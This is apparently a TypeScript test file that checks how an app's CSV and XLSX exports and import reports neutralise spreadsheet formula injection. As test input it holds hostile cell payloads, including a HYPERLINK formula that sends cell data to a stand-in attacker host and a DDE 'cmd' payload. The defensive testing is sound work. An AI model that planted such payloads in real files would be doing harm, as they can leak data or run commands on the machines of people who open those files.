import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import yauzl from 'yauzl';
import { afterEach, describe, expect, it } from 'vitest';
import { toCsv, toXlsx } from '../../src/main/exports/table-file';
import { csvCell } from '../../src/main/files/csv';
import { releaseAll } from '../support/cleanup';
import { exportFile } from '../support/exports';
import { csv, importFile, xlsx } from '../support/imports';
import { withAdmin } from '../support/station';

afterEach(releaseAll);

const SRC = fileURLToPath(new URL('../../src', import.meta.url));
/** What a spreadsheet could run: the first character of a cell that is not neutralised. */
const RUNNABLE = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

/** Every cell of a CSV file (BOM dropped), header row first. */
function cellsOf(bytes: Buffer): string[][] {
  return parse(bytes.toString('utf8').replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][];
}

/** The XML of every worksheet in an XLSX. */
async function sheetXml(bytes: Buffer): Promise<string> {
  const zip = await new Promise<yauzl.ZipFile>((resolve, reject) =>
    yauzl.fromBuffer(bytes, { lazyEntries: true }, (err, z) => (err ? reject(err) : resolve(z))),
  );
  let xml = '';
  await new Promise<void>((resolve, reject) => {
    zip.on('entry', (entry: yauzl.Entry) => {
      if (!/^xl\/worksheets\/.*\.xml$/.test(entry.fileName)) return zip.readEntry();
      zip.openReadStream(entry, (err, stream) => {
        if (err) return reject(err);
        stream.on('data', (d: Buffer) => (xml += d.toString('utf8')));
        stream.on('end', () => zip.readEntry());
      });
    });
    zip.on('end', resolve);
    zip.on('error', reject);
    zip.readEntry();
  });
  return xml;
}

async function expectNoFormulaCells(bytes: Buffer): Promise<void> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes as unknown as ArrayBuffer);
  wb.eachSheet((ws) =>
    ws.eachRow((row) =>
      row.eachCell((cell) => {
        expect([ExcelJS.ValueType.Formula, ExcelJS.ValueType.Hyperlink]).not.toContain(cell.type);
      }),
    ),
  );
  expect(await sheetXml(bytes)).not.toMatch(/<f[ >]/);
}

describe('csvCell', () => {
  it('puts an apostrophe before text a spreadsheet would run', () => {
    for (const text of ['=1+1', '+cmd', '-1+2', '@SUM(A1)', '\t=1', '\r=1', '＝1+1', '＋1', '－1', '＠SUM(A1)', '=HYPERLINK("http://x","y")', '-'])
      expect(csvCell(text)).toBe(`'${text}`);
  });

  it('leaves other text alone, and writes numbers as numbers', () => {
    expect(csvCell('SB00001')).toBe('SB00001');
    expect(csvCell('00042')).toBe('00042');
    expect(csvCell(" '=x")).toBe(" '=x");
    expect(csvCell('')).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(-5)).toBe('-5');
    expect(csvCell(-0.25)).toBe('-0.25');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('neutralises text that looks like a negative number: only the number type is trusted', () => {
    expect(csvCell('-5')).toBe("'-5");
  });
});

describe('CSV files the station writes', () => {
  it('the rejected-rows report of an import neutralises every cell refused for looking like a formula', async () => {
    const t = await withAdmin();
    const hostile = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '-1+2', '=1+1'];
    const { result, job } = await importFile(
      t.admin,
      'hostile.csv',
      csv([
        ['Parent', 'Child'],
        [hostile[0], 'C0000001'],
        ['SB00001', hostile[1]],
        [hostile[2], 'C0000002'],
        [hostile[3], ''],
        ['SB00002', hostile[4]],
        ['SB00003', 'C0000003'],
      ]),
    );
    expect(result).toMatchObject({ linked: 1, rejected: 5 });
    const report = await t.admin.ok('imports/rejected-report', { jobId: job.id });
    const cells = cellsOf(Buffer.from(report.base64, 'base64'));
    expect(cells[0]).toEqual(['Line', 'Parent', 'Child', 'Reason']);
    expect(cells).toHaveLength(6);
    for (const row of cells) for (const cell of row) expect(cell, `cell ${JSON.stringify(cell)}`).not.toMatch(RUNNABLE);
    // The refused text is all there, after its apostrophe.
    const written = cells.slice(1).flatMap((r) => [r[1], r[2]]);
    for (const h of hostile) expect(written).toContain(`'${h}`);
  });

  it('the rejected-rows report of an XLSX import neutralises the cells it refused', async () => {
    const t = await withAdmin();
    const { job } = await importFile(
      t.admin,
      'hostile.xlsx',
      await xlsx([
        ['Parent', 'Child'],
        ['@SUM(A1)', 'C1'],
        ['SB00001', '+1+1'],
        ['-cmd', ''],
      ]),
    );
    const cells = cellsOf(Buffer.from((await t.admin.ok('imports/rejected-report', { jobId: job.id })).base64, 'base64'));
    expect(cells).toHaveLength(4);
    for (const row of cells) for (const cell of row) expect(cell).not.toMatch(RUNNABLE);
  });

  it('exports of bags, bills and the audit trail neutralise every text cell; numbers stay numbers', async () => {
    const t = await withAdmin();
    const dock = await t.signedIn('dispatcher', 'dock1');
    await dock.ok('bags/scan', { code: 'SB00001', source: 'manual' });
    await dock.ok('bags/scan', { code: '-1+2', source: 'manual' });
    await dock.ok('bags/scan', { code: '@SUM(1)', source: 'manual' });
    await t.admin.ok('bills/create', { note: '=HYPERLINK("http://evil.example","x")' });
    for (const what of ['bags', 'bills', 'audit'] as const) {
      const cells = cellsOf((await exportFile(t.admin, what, 'csv')).bytes);
      expect(cells.length).toBeGreaterThan(1);
      for (const row of cells) for (const cell of row) expect(cell, `${what}: ${JSON.stringify(cell)}`).not.toMatch(RUNNABLE);
    }
    const bills = cellsOf((await exportFile(t.admin, 'bills', 'csv')).bytes);
    expect(bills[1]).toContain('\'=HYPERLINK("http://evil.example","x")');
    expect(bills[1][2]).toBe('0'); // Parents: a number column, written as a number
  });

  it('a bill as CSV (table file) neutralises text cells and writes negative numbers as numbers', () => {
    const bytes = toCsv({
      name: 'Bill',
      columns: [
        { header: 'Bag', kind: 'text', value: (r: { code: string; n: number }) => r.code },
        { header: 'Change', kind: 'number', value: (r: { code: string; n: number }) => r.n },
      ],
      rows: [
        { code: '=cmd', n: -3 },
        { code: '-1+2', n: 4 },
      ],
    });
    expect(bytes.toString('utf8')).toBe("\uFEFFBag,Change\r\n'=cmd,-3\r\n'-1+2,4\r\n");
  });
});

describe('XLSX files the station writes', () => {
  it('an XLSX export writes formula-like text as text cells, never as formulas', async () => {
    const t = await withAdmin();
    const dock = await t.signedIn('dispatcher', 'dock1');
    await dock.ok('bags/scan', { code: 'SB00001', source: 'manual' });
    await dock.ok('bags/scan', { code: '=cmd', source: 'manual' });
    await t.admin.ok('bills/create', { note: '=HYPERLINK("http://evil.example","x")' });
    for (const what of ['bags', 'bills', 'audit'] as const) await expectNoFormulaCells((await exportFile(t.admin, what, 'xlsx')).bytes);
  });

  it('a bill as XLSX (table file) writes formula-like text as text cells', async () => {
    const bytes = await toXlsx([
      {
        name: 'Bill',
        columns: [{ header: 'Bag', kind: 'text', value: (r: { code: string }) => r.code }],
        rows: [{ code: '=HYPERLINK("http://evil.example","x")' }, { code: '+1+1' }],
      },
    ]);
    await expectNoFormulaCells(bytes);
  });
});

describe('one way to write CSV', () => {
  it('no source file but src/main/files/csv.ts imports csv-stringify', () => {
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const entry of fs.readdirSync(dir, { withFileTypes: true })) {
        const file = path.join(dir, entry.name);
        if (entry.isDirectory()) walk(file);
        else if (/\.(ts|mts|cts|js|mjs|svelte)$/.test(entry.name)) {
          const text = fs.readFileSync(file, 'utf8');
          if (/csv-stringify/.test(text.replace(/\/\/.*|\/\*[\s\S]*?\*\//g, '')) && path.relative(SRC, file) !== path.join('main', 'files', 'csv.ts'))
            offenders.push(path.relative(SRC, file));
        }
      }
    };
    walk(SRC);
    expect(offenders).toEqual([]);
  });
});
